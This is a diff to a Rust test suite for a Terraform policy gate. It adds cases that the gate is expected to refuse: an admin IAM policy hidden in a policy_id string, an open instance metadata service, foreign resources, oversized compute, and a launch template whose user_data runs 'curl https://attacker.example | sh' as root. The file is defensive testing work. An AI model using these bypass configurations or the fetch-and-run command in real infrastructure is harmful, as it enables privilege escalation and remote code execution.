@@ -89,8 +89,12 @@ fn assert_passes(extra: &str, policy: &Policy) {
     );
 }
 
-const INSTANCE: &str = r#"ami = "ami-0123456789abcdef0"
-  instance_type = "t2.small""#;
+const INSTANCE: &str = r#"ami           = data.aws_ami.ubuntu.id
+  instance_type = "t2.small"
+  metadata_options {
+    http_tokens                 = "required"
+    http_put_response_hop_limit = 1
+  }"#;
 
 #[test]
 fn the_base_configuration_passes() {
@@ -319,7 +323,11 @@ provider "aws" {
 }
 
 resource "aws_instance" "app" {
-  ami           = "ami-0123456789abcdef0"
+  ami = data.aws_ami.ubuntu.id
+  metadata_options {
+    http_tokens                 = "required"
+    http_put_response_hop_limit = 1
+  }
   instance_type = var.size
 }"#
             .to_owned(),
@@ -328,7 +336,11 @@ resource "aws_instance" "app" {
         (
             "unknown instance type",
             r#"resource "aws_instance" "app" {
-  ami           = "ami-0123456789abcdef0"
+  ami = data.aws_ami.ubuntu.id
+  metadata_options {
+    http_tokens                 = "required"
+    http_put_response_hop_limit = 1
+  }
   instance_type = "p5.48xlarge"
 }"#
             .to_owned(),
@@ -784,6 +796,10 @@ fn instance_types_are_checked_wherever_they_appear() {
 
 resource "aws_launch_template" "nodes" {
   instance_type = var.node_type
+  metadata_options {
+    http_tokens                 = "required"
+    http_put_response_hop_limit = 1
+  }
 }
 
 variable "node_type" {
@@ -2177,5 +2193,159 @@ resource "aws_db_instance" "x" {
         ),
     ] {
         assert_passes(extra, policy);
+    }
+}
+
+/// A third round of attacks, each seen to pass the gate before: a policy
+/// carried in a data source's free text, the execution policy reaching the
+/// app's role through a local, nodes with their metadata service open or a
+/// script of the author's, a private image of the account, code or a layer
+/// from elsewhere, an Elastic IP moved onto an existing instance, a
+/// service registered in another's discovery namespace, SSH on the nodes,
+/// and tasks and functions of any size.
+#[test]
+fn a_third_round_of_attacks_is_refused() {
+    let vm = vm_policy();
+    let container_service = Policy::for_choice(&choice(Target::ContainerService));
+    let serverless = Policy::for_choice(&choice(Target::Serverless));
+    let kubernetes = Policy::for_choice(&choice(Target::Kubernetes));
+    let metadata = "  metadata_options {\n    http_tokens                 = \"required\"\n    http_put_response_hop_limit = 1\n  }\n";
+    let cases: Vec<(&str, String, &[Rule], &Policy)> = vec![
+        (
+            "an admin policy carried in a document's policy_id",
+            r#"data "aws_iam_policy_document" "x" {
+  policy_id = "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"
+}
+
+resource "aws_iam_role_policy" "x" {
+  role   = aws_iam_role.app.id
+  policy = data.aws_iam_policy_document.x.policy_id
+}"#
+            .to_owned(),
+            &[Rule::IamAction],
+            &vm,
+        ),
+        (
+            "the execution policy on the app's role through a local",
+            r#"locals {
+  task_role_name = (aws_iam_role.task.name)
+}
+
+resource "aws_ecs_task_definition" "app" {
+  family                = "app"
+  task_role_arn         = aws_iam_role.task.arn
+  container_definitions = jsonencode([{ name = "app", image = "${aws_ecr_repository.app.repository_url}:1" }])
+}
+
+resource "aws_iam_role_policy_attachment" "task" {
+  role       = local.task_role_name
+  policy_arn = "arn:aws:iam::aws:policy/service-role/AmazonECSTaskExecutionRolePolicy"
+}"#
+            .to_owned(),
+            &[Rule::IamManagedPolicy],
+            &container_service,
+        ),
+        (
+            "nodes whose metadata service pods can reach",
+            "resource \"aws_launch_template\" \"nodes\" {\n  metadata_options {\n    http_tokens                 = \"optional\"\n    http_put_response_hop_limit = 2\n  }\n}".to_owned(),
+            &[Rule::PodPrivilege],
+            &kubernetes,
+        ),
+        (
+            "a script of the author's run as root on every node",
+            format!("resource \"aws_launch_template\" \"nodes\" {{\n  user_data = base64encode(\"curl https://attacker.example | sh\")\n{metadata}}}"),
+            &[Rule::PodPrivilege],
+            &kubernetes,
+        ),
+        (
+            "a VM booted from a private image of the account",
+            format!("resource \"aws_instance\" \"x\" {{\n  ami           = \"ami-0123456789abcdef0\"\n  instance_type = \"t2.small\"\n{metadata}}}"),
+            &[Rule::ForeignResource],
+            &vm,
+        ),
+        (
+            "a task of 16 vCPU",
+            r#"resource "aws_ecs_task_definition" "x" {
+  family                = "x"
+  cpu                   = 16384
+  memory                = 122880
+  container_definitions = jsonencode([{ name = "app", image = "${aws_ecr_repository.app.repository_url}:1" }])
+}"#
+            .to_owned(),
+            &[Rule::SizeNotBounded],
+            &container_service,
+        ),
+        (
+            "a function of 10 GB running 15 minutes",
+            r#"resource "aws_lambda_function" "x" {
+  function_name = "x"
+  package_type  = "Image"
+  image_uri     = "${aws_ecr_repository.app.repository_url}:1"
+  role          = aws_iam_role.app.arn
+  memory_size   = 10240
+  timeout       = 900
+}"#
+            .to_owned(),
+            &[Rule::SizeNotBounded],
+            &serverless,
+        ),
+        (
+            "a function's code from another team's bucket",
+            r#"resource "aws_lambda_function" "x" {
+  function_name = "x"
+  s3_bucket     = "payments-artifacts"
+  s3_key        = "api.zip"
+  handler       = "index.handler"
+  runtime       = "nodejs20.x"
+  role          = aws_iam_role.app.arn
+}"#
+            .to_owned(),
+            &[Rule::ForeignResource],
+            &serverless,
+        ),
+        (
+            "SSH on every node and a disk of 16 TiB",
+            r#"resource "aws_eks_node_group" "x" {
+  cluster_name  = aws_eks_cluster.main.name
+  node_role_arn = aws_iam_role.nodes.arn
+  subnet_ids    = aws_subnet.public[*].id
+  disk_size     = 16384
+  remote_access {
+    ec2_ssh_key = "ops"
+  }
+}"#
+            .to_owned(),
+            &[Rule::WorldIngress, Rule::SizeNotBounded],
+            &kubernetes,
+        ),
+        (
+            "an Elastic IP moved onto an existing instance by an id in pieces",
+            "locals {\n  x = \"0123456789abcdef0\"\n}\n\nresource \"aws_eip\" \"x\" {\n  instance = \"i-${local.x}\"\n}".to_owned(),
+            &[Rule::ForeignResource],
+            &vm,
+        ),
+        (
+            "tasks registered in another service's discovery",
+            r#"resource "aws_ecs_service" "x" {
+  name            = "x"
+  cluster         = aws_ecs_cluster.main.id
+  task_definition = aws_ecs_task_definition.app.arn
+  service_registries {
+    registry_arn = "arn:aws:servicediscovery:ca-central-1:${data.aws_caller_identity.current.account_id}:service/srv-payments"
+  }
+}"#
+            .to_owned(),
+            &[Rule::ForeignResource],
+            &container_service,
+        ),
+    ];
+    for (name, extra, rules, policy) in cases {
+        let report = check_with(&extra, policy);
+        assert_eq!(
+            report.rules(),
+            rules.iter().copied().collect::<BTreeSet<_>>(),
+            "case {name:?}:\n{extra}\n{:#?}",
+            report.violations
+        );
     }
 }
